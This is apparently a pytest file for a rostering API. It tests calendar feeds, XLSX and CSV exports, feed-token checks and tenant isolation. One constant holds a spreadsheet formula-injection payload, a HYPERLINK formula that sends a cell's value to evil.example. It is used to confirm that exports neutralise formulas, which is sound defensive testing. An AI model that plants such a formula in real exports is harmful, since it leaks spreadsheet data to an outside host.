"""Publishing a roster and the calendar feed; XLSX and team exports; ids and names of any kind."""

from __future__ import annotations

import copy
import io
from urllib.parse import quote

import pytest
import vobject
from icalendar import Calendar
from openpyxl import load_workbook

from api.examples import NORMAL_PROBLEM
from api.store import JobStore
from tests.api.helpers import assert_solution_checked, finished, wait_for

ODD_ID = "ops/ayu?#1 %"
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _problem(name_of_e2: str = "Budi", timezone: str | None = "Asia/Jakarta") -> dict:
    problem = copy.deepcopy(NORMAL_PROBLEM)
    problem["horizon"]["timezone"] = timezone
    problem["employees"][0]["id"] = ODD_ID
    problem["employees"][0]["name"] = HOSTILE
    problem["employees"][1]["name"] = name_of_e2
    return problem


def _solve(client, problem: dict) -> str:
    location = client.post("/v1/jobs", json=problem).headers["location"]
    body = wait_for(client, location, finished, timeout=120)
    assert body["state"] == "done", body
    assert_solution_checked(problem, body["solution"])
    return location


@pytest.fixture(scope="module")
def first(alice) -> str:
    return _solve(alice, _problem("Budi\nSantoso; Jr., \\2\r"))


@pytest.fixture(scope="module")
def second(alice, first) -> str:
    return _solve(alice, _problem("Budi Santoso"))


def _uids(body: bytes) -> dict[str, int]:
    return {str(e["uid"]): int(e["sequence"]) for e in Calendar.from_ical(body).walk("VEVENT")}


def test_a_name_with_line_breaks_exports_escaped(alice, first) -> None:
    response = alice.get(f"{first}/calendar/e2.ics")
    assert response.status_code == 200
    assert b"X-WR-CALNAME:Roster of Budi\\nSantoso\\; Jr.\\, \\\\2\\n" in response.content
    parsed = vobject.readOne(response.text)
    assert parsed.contents["x-wr-calname"][0].value == "Roster of Budi\nSantoso; Jr., \\2\n"
    assert len(parsed.vevent_list) == 6  # five working days and Tuesday's meeting


def test_an_id_that_needs_url_encoding_exports(alice, first) -> None:
    response = alice.get(f"{first}/calendar/{quote(ODD_ID, safe='')}.ics")
    assert response.status_code == 200, response.text
    assert 'filename="ops_ayu__1__.ics"' in response.headers["content-disposition"]
    assert "Roster of" in vobject.readOne(response.text).contents["x-wr-calname"][0].value


def test_the_xlsx_export_neutralises_formulas(alice, first) -> None:
    response = alice.get(f"{first}/roster.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    names = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    assert names[ODD_ID].value == "'" + HOSTILE and names[ODD_ID].data_type == "s"
    csv_text = alice.get(f"{first}/roster.csv").text
    assert f"'{HOSTILE}".replace('"', '""') in csv_text


def test_a_team_calendar_is_served(alice, first) -> None:
    response = alice.get(f"{first}/teams/fin.ics")
    assert response.status_code == 200
    calendar = Calendar.from_ical(response.content)
    assert len([e for e in calendar.walk("VEVENT") if str(e["summary"]).startswith("Finance:")]) == 5
    assert alice.get(f"{first}/teams/nope.ics").status_code == 404


def test_the_feed_shows_the_latest_published_roster(alice, bob, first, second) -> None:
    assert alice.get("/v1/calendars/e2.ics").status_code == 404  # nothing published yet
    published = alice.post(f"{first}/publish")
    assert published.status_code == 200, published.text
    feeds = published.json()["feeds"]
    assert feeds["e2"].startswith("/v1/calendars/e2.ics?token=alice.")
    assert feeds[ODD_ID].startswith(f"/v1/calendars/{quote(ODD_ID, safe='')}.ics?token=alice.")
    feed = alice.get("/v1/calendars/e2.ics")
    assert feed.status_code == 200 and feed.headers["content-type"].startswith("text/calendar")
    assert b"Santoso\\; Jr." in feed.content
    before = _uids(feed.content)
    assert alice.post(f"{second}/publish").status_code == 200
    after_body = alice.get("/v1/calendars/e2.ics").content
    after = _uids(after_body)
    assert b"X-WR-CALNAME:Roster of Budi Santoso" in after_body
    assert before.keys() == after.keys()  # the same events, updated
    assert all(after[uid] > before[uid] for uid in before)
    assert alice.post(f"{first}/publish").status_code == 200  # publishing the first again: newer still
    again = _uids(alice.get("/v1/calendars/e2.ics").content)
    assert all(again[uid] > after[uid] for uid in after)
    assert alice.get(f"/v1/calendars/{quote(ODD_ID, safe='')}.ics").status_code == 200
    # another tenant sees neither the feed nor the job
    assert bob.get("/v1/calendars/e2.ics").status_code == 404
    assert bob.post(f"{first}/publish").status_code == 404


def test_a_feed_token_opens_one_feed_without_a_key(alice, anonymous, bob, first) -> None:
    feeds = alice.post(f"{first}/publish").json()["feeds"]
    response = anonymous.get(feeds["e2"])
    assert response.status_code == 200, response.text
    assert b"Roster of Budi" in response.content
    assert anonymous.get(feeds[ODD_ID]).status_code == 200
    token = feeds["e2"].split("token=")[1]
    assert anonymous.get(f"/v1/calendars/e3.ics?token={token}").status_code == 401  # another employee
    tampered = token[:-1] + ("1" if token.endswith("0") else "0")
    assert anonymous.get(f"/v1/calendars/e2.ics?token={tampered}").status_code == 401
    forged = "bob." + token.split(".", 1)[1]
    assert anonymous.get(f"/v1/calendars/e2.ics?token={forged}").status_code == 401  # another tenant
    assert anonymous.get("/v1/calendars/e2.ics?token=nobody.abc").status_code == 401
    assert anonymous.get("/v1/calendars/e2.ics").status_code == 401  # neither key nor token
    assert alice.post(f"{first}/publish").json()["feeds"] == feeds  # tokens stay the same


def test_the_feed_keeps_earlier_weeks_when_the_next_is_published(alice, first) -> None:
    alice.post(f"{first}/publish")
    next_week = _problem("Budi Santoso")
    next_week["horizon"]["start"] = "2026-12-14"
    next_week["employees"][1]["unavailable"] = []
    later = _solve(alice, next_week)
    assert alice.post(f"{later}/publish").status_code == 200
    calendar = Calendar.from_ical(alice.get("/v1/calendars/e2.ics").content)
    days = sorted(
        event.decoded("dtstart").strftime("%Y-%m-%d")
        if hasattr(event.decoded("dtstart"), "hour")
        else event.decoded("dtstart").isoformat()
        for event in calendar.walk("VEVENT")
        if str(event["summary"]) != "Weekly"
    )
    assert days == [f"2026-12-{day:02d}" for day in (7, 8, 9, 10, 11, 14, 15, 16, 17, 18)]
    assert str(calendar["x-wr-calname"]) == "Roster of Budi Santoso"  # the newest roster's name


def test_a_job_without_a_roster_cannot_be_published(alice) -> None:
    problem = copy.deepcopy(NORMAL_PROBLEM)
    problem["sites"][0]["desks"] = 2
    location = alice.post("/v1/jobs", json=problem).headers["location"]
    wait_for(alice, location, finished, timeout=120)
    response = alice.post(f"{location}/publish")
    assert response.status_code == 409
    assert response.json() == {"detail": "the job found no roster (status infeasible)"}
    assert alice.post("/v1/jobs/nope/publish").status_code == 404


def test_an_older_database_gains_the_publication_column(tmp_path) -> None:
    import sqlite3

    path = tmp_path / "jobs.sqlite3"
    old = sqlite3.connect(path)
    old.executescript(
        "CREATE TABLE jobs (seq INTEGER PRIMARY KEY AUTOINCREMENT, id TEXT NOT NULL UNIQUE,"
        " tenant TEXT NOT NULL,"
        " kind TEXT NOT NULL, state TEXT NOT NULL, visible INTEGER NOT NULL DEFAULT 1,"
        " priority INTEGER NOT NULL DEFAULT 0, request TEXT NOT NULL, options TEXT NOT NULL,"
        " created_at REAL NOT NULL, started_at REAL, finished_at REAL, attempts INTEGER NOT NULL DEFAULT 0,"
        " worker TEXT, lease TEXT, cancel_requested INTEGER NOT NULL DEFAULT 0,"
        " progress TEXT NOT NULL DEFAULT '[]', best TEXT, result TEXT, error TEXT);"
        "INSERT INTO jobs (id, tenant, kind, state, request, options, created_at)"
        " VALUES ('j1', 't', 'solve', 'done', '{\"employees\": [{\"id\": \"e1\"}]}', '{}', 1.0);"
    )
    old.close()
    store = JobStore(path)
    try:
        assert store.get("j1").published_at is None
        assert store.publish("j1", "other") is None
        published = store.publish("j1", "t")
        assert published is not None and published.published_at is not None
        assert [job.id for job in store.published_for("t", "e1", 5)] == ["j1"]
        assert store.published_for("t", "e2", 5) == []
        assert store.published_for("other", "e1", 5) == []
    finally:
        store.close()
    JobStore(path).close()  # opening it again changes nothing
